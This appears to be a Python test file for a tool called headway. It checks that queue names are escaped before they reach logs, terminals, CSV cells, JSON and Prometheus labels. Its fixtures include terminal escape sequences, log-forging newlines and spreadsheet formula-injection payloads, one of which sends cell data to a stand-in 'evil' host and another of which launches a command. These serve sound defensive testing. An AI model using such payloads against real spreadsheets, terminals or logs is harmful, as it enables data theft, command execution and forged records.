"""No name moves a cursor or forges a line, wherever a person reads it: a property over every sink's own function."""

import json
import logging
import re
import sys
import threading
from io import StringIO
from typing import Any

import pytest
import rich.text
from hypothesis import given
from hypothesis import strategies as st
from prometheus_client import generate_latest
from prometheus_client.parser import text_string_to_metric_families
from prometheus_client.registry import CollectorRegistry
from rich.console import Group
from rich.live import Live
from rich.panel import Panel
from rich.spinner import Spinner
from rich.table import Table

from headway.__main__ import main
from headway.cli.process.log_setup import OneLine, log_to_stderr
from headway.cli.terminal.cells import table
from headway.cli.terminal.printing import say, say_json, say_text
from headway.cli.terminal.screen import Screen, Text, lined, paragraph
from headway.control.http.problems import problem_response
from headway.control.http.prometheus.gauges import gauge
from headway.control.http.prometheus.series_limits import LABEL_CHARS_MAX, Left
from headway.errors import Invalid, csv_cell, printable

CONTROL = ["a\nb", "\x1b[2J", "\x9b31m", "\u202egnp", "\u2028", "\r", "\x00", "\x7f"]
# What an attacker would choose, among everything else: C0 and C1, DEL, changes of direction, tags, lone surrogates.
HOSTILE = st.sampled_from([*map(chr, [*range(32), *range(0x7F, 0xA0), *range(0x2028, 0x202F), *range(0x2066, 0x206A)])])
NAMES = st.text(
    st.one_of(HOSTILE, st.sampled_from('[]\\"{}%'), st.characters()) | st.sampled_from(["\U000e0041", "\ud800"]),
    max_size=40,
)


@given(NAMES)
def test_a_printed_name_is_one_line_and_a_plain_one_is_itself(name: str) -> None:
    assert printable(name).isprintable()
    assert printable(name) == name or not name.isprintable()
    assert printable(printable(name)) == printable(name)


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A2,"mail")', '\'=HYPERLINK("http://evil/?"&A2,"mail")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("mail", "mail"),
        ("redis/-mail", "redis/-mail"),
        ("-3.5", "-3.5"),
        ("", ""),
    ],
)
def test_a_cell_of_csv_is_no_formula_and_a_number_stays_one(name: str, cell: str) -> None:
    """Queues are named by who sends events; a spreadsheet runs what it takes for a formula."""
    assert csv_cell(name) == cell


# --- logs ------------------------------------------------------------------------------------------------------------


@given(NAMES, NAMES)
def test_a_log_line_stays_one_whatever_it_names(name: str, reason: str) -> None:
    record = logging.LogRecord("headway", logging.INFO, "f", 1, "refused caller=%s: %s", (name, reason), None)
    assert OneLine("%(message)s").format(record).isprintable()


@given(NAMES)
def test_a_trace_keeps_its_lines_and_none_of_them_begins_as_an_event_does(name: str) -> None:
    """A line break in an error's message began a line of its own, which read as another event of the log."""
    error = ValueError(name)
    record = logging.LogRecord("headway", logging.ERROR, "f", 1, "failed", (), (ValueError, error, None))
    first, *trace = OneLine("%(message)s").format(record).split("\n")
    assert first == "failed"
    assert all(line.isprintable() and line.startswith("  ") for line in trace)


def test_an_error_that_nobody_catches_is_logged_as_every_other_one(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = logging.getLogger()
    before = root.handlers[:]
    root.handlers.clear()
    for module, hook in ((sys, "excepthook"), (threading, "excepthook")):
        monkeypatch.setattr(module, hook, getattr(module, hook))
    try:
        log_to_stderr()

        def fails() -> None:
            raise ValueError("\x1b[2J\n2026-01-01 INFO headway all is well")

        thread = threading.Thread(target=fails)
        thread.start()
        thread.join()
    finally:
        root.handlers[:] = before
    said = capsys.readouterr().err
    assert "ended by an error that nobody caught" in said
    assert not re.search(r"^2026-01-01|\x1b", said, re.MULTILINE)


# --- terminals -------------------------------------------------------------------------------------------------------


def shown(*what: Any, **options: Any) -> str:
    """What a terminal without colours gets of each."""
    screen = Screen(file=StringIO(), force_terminal=True, color_system=None, width=60)
    for each in what:
        screen.print(each, **options)
    return screen.file.getvalue()


@given(NAMES)
def test_nothing_that_is_drawn_moves_the_cursor(name: str) -> None:
    columns = Table(name, title=name, caption=name)
    columns.add_row(name)
    columns.add_row(Text(name))
    columns.add_row(rich.text.Text(name))
    text = shown(
        *(name, Text(name), lined(name, name), paragraph(name, 20), Text("a", style="bold") + Text(name)),
        *(columns, Group(name, Text(name)), Panel(name, title=name), Text.assemble((name, "bold"), name)),
        *(rich.text.Text(name), table((name, "b"), [(name, name)], empty=name), table((), [], empty=name)),
        Text("a").append(name),
    )
    assert text.replace("\n", "").isprintable()


@given(NAMES)
def test_a_text_stays_in_its_line_and_is_no_markup(name: str) -> None:
    assert shown(Text(f"<{name}>"), soft_wrap=True) == f"<{printable(name)}>\n"
    assert shown(f"<{name}>", soft_wrap=True) == f"<{printable(name)}>\n"
    assert shown(lined(name, name), soft_wrap=True) == f"{printable(name)}\n{printable(name)}\n"


def test_a_picture_that_is_drawn_anew_moves_the_cursor_by_itself_alone() -> None:
    screen = Screen(file=StringIO(), force_terminal=True, color_system=None, width=60)
    with Live(Group(Text("\x1b[2J"), Spinner("line", "\x1b[2J")), console=screen, auto_refresh=False) as live:
        live.update(Text("\x1b[2J"), refresh=True)
    assert "\x1b[2J" not in screen.file.getvalue()
    assert "\\x1b[2J" in screen.file.getvalue()


@given(NAMES)
def test_what_is_printed_without_a_screen_is_a_line(name: str) -> None:
    out = StringIO()
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(sys, "stdout", out)
        say(name)
        say_text(f"{name.replace(chr(10), '')}\nb\n")
    assert out.getvalue().count("\n") == 3
    assert out.getvalue().replace("\n", "").isprintable()


@given(st.recursive(NAMES, lambda inner: st.lists(inner) | st.dictionaries(NAMES, inner), max_leaves=5))
def test_json_on_a_terminal_is_the_same_value_and_nothing_but_text(value: Any) -> None:
    out = StringIO()
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(sys, "stdout", out)
        say_json(value)
    assert out.getvalue().replace("\n", "").isprintable()
    assert json.loads(out.getvalue()) == value


@pytest.mark.parametrize("name", [each for each in CONTROL if "\0" not in each])
def test_a_refusal_is_one_line(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    for words in ([name], ["agent", name], ["apply", name], ["get", name], ["queue", "forget", name, "--x"]):
        assert main(words) == 2
        assert capsys.readouterr().err.removesuffix("\n").isprintable()


# --- answers ---------------------------------------------------------------------------------------------------------


@given(NAMES)
def test_a_problem_is_reported_in_one_line(name: str) -> None:
    problem = json.loads(problem_response(Invalid(name, f"queue {name}")).body)
    assert all(map(str.isprintable, [problem["detail"], *problem["breaches"]]))


@given(st.lists(NAMES, max_size=6))
def test_labels_are_printable_and_short_and_no_series_comes_twice(names: list[str]) -> None:
    """Prometheus takes nothing of an answer in which a series comes twice, as two names would that are shown alike."""
    names = [*names, *map(printable, names), "x" * 1_000, "x" * 999 + "y"]
    left = Left(10_000)
    (family,) = left.shown([gauge("headway_x", "x", ("queue",), [((name,), 1.0) for name in names])])
    labels = [sample.labels["queue"] for sample in family.samples]
    assert len(set(labels)) == len(labels)
    assert len(labels) + left.omitted == len(names)
    assert all(name.isprintable() and len(name) <= LABEL_CHARS_MAX for name in labels)
    assert {name for name in names if name.isprintable() and len(name) <= LABEL_CHARS_MAX} <= set(labels)


def test_an_answer_with_every_kind_of_name_is_read_by_prometheus() -> None:
    class Registered:
        def collect(self):
            return Left(100).shown([gauge("headway_x", "x", ("queue",), [((name,), 1.0) for name in CONTROL])])

    registry = CollectorRegistry(auto_describe=False)
    registry.register(Registered())
    text = generate_latest(registry).decode()
    assert text.replace("\n", "").isprintable()
    (family,) = text_string_to_metric_families(text)
    assert {sample.labels["queue"] for sample in family.samples} == set(map(printable, CONTROL))
